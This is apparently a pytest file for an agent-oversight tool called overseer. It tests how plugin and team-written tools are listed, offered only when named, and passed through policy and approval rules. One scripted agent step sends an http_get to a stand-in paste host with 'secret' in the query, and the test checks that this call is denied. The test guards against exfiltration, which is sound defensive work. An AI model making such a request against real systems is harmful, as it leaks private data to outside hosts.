"""Teams' own Python tools: the example plugin (installed into the test
environment through its entry point), ``@overseer.tool`` functions and Tool
subclasses from ``--tool`` and the project's ``tools = [...]``, all mediated
like the built-ins, and ``overseer tools`` listing them."""

from __future__ import annotations

import json
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from pydantic import BaseModel

import overseer
from overseer.agent.script import Plan, ScriptAgent, Step
from overseer.approval import ApprovalRequest
from overseer.session import Session, SessionConfig, run_agent
from overseer.toolapi import Facts, Tool, ToolContext, ToolResult
from tests.helpers.fakes import ScriptedApprover
from tests.helpers.records import payloads as events

ROOT = Path(__file__).resolve().parent.parent
PLUGIN_POLICY = ROOT / "examples" / "custom_tool" / "policy.toml"
PLUGIN_DIST = "plugin:overseer-example-tools"


# -- tools a team might write, loaded with --tool / tools = [...] ------------


def _note_facts(text: str, ctx: ToolContext) -> Facts:
    return Facts(writes=[str(ctx.workspace / "NOTES.md")])


@overseer.tool(facts=_note_facts, preview=lambda text: f"append to NOTES.md:\n{text}")
def add_note(text: str, ctx: ToolContext) -> str:
    """Append a line to NOTES.md in the workspace."""
    with (ctx.workspace / "NOTES.md").open("a", encoding="utf-8") as fh:
        fh.write(text + "\n")
    return "noted"


class TicketArgs(BaseModel):
    title: str
    priority: int = 3


class OpenTicket(Tool):
    """A class-based tool that reaches a (pretend) issue tracker."""

    name = "open_ticket"
    description = "Open a ticket in the team's tracker."
    Args = TicketArgs
    opened: list[str] = []

    def facts(self, args: Any, ctx: ToolContext) -> Facts:
        return Facts(network=["tracker.example.com"], risk=["open_world"])

    def run(self, args: Any, ctx: ToolContext) -> ToolResult:
        OpenTicket.opened.append(args.title)
        return ToolResult(output=f"opened {args.title!r} (p{args.priority})")


TEAM_POLICY = """
name = "team"
default = "ask"

[[rules]]
name = "notes-are-fine"
tool = "add_note"
writes = ["NOTES.md"]
decision = "allow"
reason = "the agent keeps its own notes"
"""


def run_cli(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "overseer", *args],
        capture_output=True,
        text=True,
        cwd=cwd,
        timeout=120,
    )


def open_session(
    repo: Path, log_path: Path, approver: Any, policy: Path | str, tools: list[str] = ()
) -> Session:  # type: ignore[assignment]
    cfg = SessionConfig(
        task="custom tools",
        agent="script",
        workspace=repo,
        policy=str(policy),
        tools=list(tools),
        log_path=log_path,
        sandbox="none",
        watch=False,
        snapshot=False,
    )
    return Session.open(cfg, approver=approver)


# -- the example plugin -------------------------------------------------------


class _Hook(BaseHTTPRequestHandler):
    received: list[dict[str, Any]] = []

    def do_POST(self) -> None:  # noqa: N802 - http.server's naming
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        _Hook.received.append(body)
        answer = json.dumps(
            {"url": f"https://{body['branch'].replace('/', '-')}.preview.example"}
        ).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(answer)))
        self.end_headers()
        self.wfile.write(answer)

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def deploy_hook(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[dict[str, Any]]]:
    """The team's deploy webhook, on the loopback interface."""
    _Hook.received = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Hook)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    monkeypatch.setenv("DEPLOY_PREVIEW_HOOK", f"http://127.0.0.1:{server.server_address[1]}/deploy")
    try:
        yield _Hook.received
    finally:
        server.shutdown()
        server.server_close()


def test_example_plugin_is_listed_by_overseer_tools_as_opt_in(make_repo):
    repo = make_repo()
    res = run_cli("tools", "--repo", str(repo), "--policy", str(PLUGIN_POLICY), "--json")
    assert res.returncode == 0, res.stderr
    rows = {r["name"]: r for r in json.loads(res.stdout)}
    deploy = rows["deploy_preview"]
    assert deploy["source"] == PLUGIN_DIST
    assert "preview (or staging) environment" in deploy["description"]
    assert deploy["decision"] == "ask" and deploy["rule"] == "deploy-preview-asks"
    assert rows["http_get"]["source"] == PLUGIN_DIST
    assert {"name", "source", "description", "decision"} <= set(rows["http_get"])
    # Installed, listed, and not offered to an agent until a session names them.
    assert (deploy["opt_in"], deploy["offered"]) == (True, False)
    assert (rows["http_get"]["opt_in"], rows["http_get"]["offered"]) == (True, False)
    assert (rows["shell"]["opt_in"], rows["shell"]["offered"]) == (False, True)
    named = run_cli("tools", "--repo", str(repo), "--tool", "deploy_preview", "--json")
    named_rows = {r["name"]: r for r in json.loads(named.stdout)}
    assert named_rows["deploy_preview"]["offered"] and not named_rows["http_get"]["offered"]
    # The human-readable form names the same things, under the opt-in heading.
    text = run_cli("tools", "--policy", str(PLUGIN_POLICY), cwd=repo)
    assert text.returncode == 0, text.stderr
    lines = text.stdout.splitlines()
    heading = next(i for i, ln in enumerate(lines) if ln.startswith("opt-in, not offered"))
    at = next(i for i, ln in enumerate(lines) if ln.startswith("deploy_preview"))
    assert at > heading and PLUGIN_DIST in lines[at] and " ask " in lines[at]


def test_example_plugin_tools_are_not_offered_unless_named(make_repo, log_path, tmp_path):
    """Installed in the venv by `make setup`, the example tools (a deploy, a
    fetch from the network) must not reach a real model in every session."""
    repo = make_repo()
    session = open_session(repo, log_path, ScriptedApprover("deny"), "default")
    offered = set(session.registry.specs)
    session.end("completed")
    assert {"shell", "read_file", "run_tests"} <= offered
    assert not offered & {"deploy_preview", "http_get"}
    # Named by the project config: that one only.
    (repo / "overseer.toml").write_text('tools = ["http_get"]\n')
    session = open_session(repo, tmp_path / "b.db", ScriptedApprover("deny"), "default")
    offered = set(session.registry.specs)
    session.end("completed")
    assert "http_get" in offered and "deploy_preview" not in offered
    assert session.registry.specs["http_get"].source == PLUGIN_DIST
    # A name that is no installed opt-in tool is a usage error that lists them.
    res = run_cli("tools", "--repo", str(repo), "--tool", "deploy_previews")
    assert res.returncode == 2
    assert res.stderr.strip().splitlines() == [
        "overseer: error: no opt-in plugin tool named 'deploy_previews' is installed "
        "(installed: deploy_preview, http_get); a Python tool is given as module:attr"
    ]


def test_example_plugin_is_mediated_its_ask_rule_reaches_the_approver(
    make_repo, log_path, deploy_hook
):
    repo = make_repo()
    subprocess.run(["git", "branch", "feature/login"], cwd=repo, check=True)
    approver = ScriptedApprover("approve")
    session = open_session(
        repo, log_path, approver, PLUGIN_POLICY, tools=["deploy_preview", "http_get"]
    )
    assert session.registry.specs["deploy_preview"].source == PLUGIN_DIST
    plan = Plan(
        steps=[
            Step(tool="deploy_preview", args={"branch": "feature/login"}, id="d1"),
            Step(tool="deploy_preview", args={"branch": "main", "environment": "staging"}, id="d2"),
            Step(tool="http_get", args={"url": "https://paste.example/?d=secret"}, id="h1"),
            Step(tool="deploy_preview", args={"branch": "main", "colour": "red"}, id="d3"),
        ]
    )
    result = run_agent(session, ScriptAgent(plan))
    assert result.status == "completed"

    # The ask rule sent the deploy to the person, with a preview of what goes where.
    [asked, fetch] = approver.requests
    assert isinstance(asked, ApprovalRequest) and asked.tool == "deploy_preview"
    assert asked.rule == "deploy-preview-asks"
    assert "feature/login" in (asked.preview or "") and "preview environment" in (
        asked.preview or ""
    )
    # Approved: it ran once, against the webhook, with the commit the branch names.
    assert [b["branch"] for b in deploy_hook] == ["feature/login"]
    head = subprocess.run(
        ["git", "rev-parse", "feature/login"], cwd=repo, capture_output=True, text=True
    ).stdout.strip()
    assert deploy_hook[0]["commit"] == head

    finished = {p["call_id"]: p for p in events(log_path, result.session, "action_finished")}
    assert (
        finished["d1"]["status"] == "ok"
        and "feature-login.preview.example" in finished["d1"]["output"]
    )
    # The deny rule: refused with its reason, never shown to the approver.
    assert finished["d2"]["status"] == "denied"
    assert "release checklist" in finished["d2"]["output"]
    # A host outside the allow rule falls through to ask (the scripted approver then denies).
    assert fetch.tool == "http_get" and finished["h1"]["status"] == "denied"
    # Unknown arguments are refused before the policy sees them.
    assert finished["d3"]["status"] == "invalid" and "colour" in finished["d3"]["output"]
    decided = {p["call_id"] for p in events(log_path, result.session, "policy_decided")}
    assert "d3" not in decided


# -- @overseer.tool and Tool subclasses from --tool and the project config ----


def test_function_and_class_tools_from_tool_specs_and_project_config(make_repo, log_path, tmp_path):
    repo = make_repo(
        {"README.md": "# r\n", "overseer.toml": 'tools = ["tests.test_custom_tools:OpenTicket"]\n'}
    )
    policy = tmp_path / "team.toml"
    policy.write_text(TEAM_POLICY)
    OpenTicket.opened = []
    approver = ScriptedApprover(("deny", {"reason": "file it yourself after the standup"}))
    session = open_session(
        repo, log_path, approver, policy, tools=["tests.test_custom_tools:add_note"]
    )
    assert session.registry.specs["add_note"].source == "python"
    assert session.registry.specs["open_ticket"].source == "python"
    plan = Plan(
        steps=[
            Step(tool="add_note", args={"text": "bisect found abc123"}, id="n1"),
            Step(tool="open_ticket", args={"title": "flaky test"}, id="t1"),
            Step(tool="add_note", args={"text": 42, "ctx": "sneaky"}, id="n2"),
        ]
    )
    result = run_agent(session, ScriptAgent(plan))
    assert result.status == "completed"
    assert (repo / "NOTES.md").read_text() == "bisect found abc123\n"
    # The class tool declared network + open_world: no rule names it -> ask -> denied with the reason.
    assert [r.tool for r in approver.requests] == ["open_ticket"]
    assert OpenTicket.opened == []
    finished = {p["call_id"]: p for p in events(log_path, result.session, "action_finished")}
    assert finished["t1"]["status"] == "denied" and "after the standup" in finished["t1"]["output"]
    # ctx is the runtime's, not an argument the agent may pass.
    assert finished["n2"]["status"] == "invalid"
    decided = {p["call_id"]: p for p in events(log_path, result.session, "policy_decided")}
    assert decided["n1"]["rule"] == "notes-are-fine"
    assert decided["n1"]["facts"]["writes"] == [str(repo.resolve() / "NOTES.md")]

    res = run_cli(
        "tools",
        "--repo",
        str(repo),
        "--policy",
        str(policy),
        "--tool",
        "tests.test_custom_tools:add_note",
        "--json",
        cwd=ROOT,
    )
    rows = {r["name"]: r for r in json.loads(res.stdout)}
    assert rows["add_note"]["source"] == "python" and rows["open_ticket"]["source"] == "python"
    assert rows["open_ticket"]["decision"] == "ask" and rows["open_ticket"]["risk"] == [
        "open_world"
    ]
    assert rows["add_note"]["description"] == "Append a line to NOTES.md in the workspace."


@pytest.mark.parametrize(
    "args, message",
    [
        (["--tool", "no_such_module:thing"], "cannot import 'no_such_module'"),
        (["--tool", "json:dumps_nothing"], "has no attribute"),
        (["--tool", "json:__doc__"], "not a tool"),
        (["--repo", "/no/such/dir"], "not a directory"),
        (["--policy", "/no/such/policy.toml"], "not found"),
    ],
)
def test_user_mistakes_are_one_line_errors(args, message, tmp_path):
    res = run_cli("tools", *args, cwd=tmp_path)
    assert res.returncode == 2, res.stderr
    assert message in res.stderr and "Traceback" not in res.stderr
    assert len(res.stderr.strip().splitlines()) == 1, res.stderr


def test_a_broken_project_config_is_a_clear_error(make_repo):
    repo = make_repo({"overseer.toml": "[mcp.servers.git]\nargs = ['x']\n"})
    res = run_cli("tools", "--repo", str(repo))
    assert res.returncode == 2 and "Traceback" not in res.stderr
    assert "mcp.servers.git" in res.stderr and "command" in res.stderr
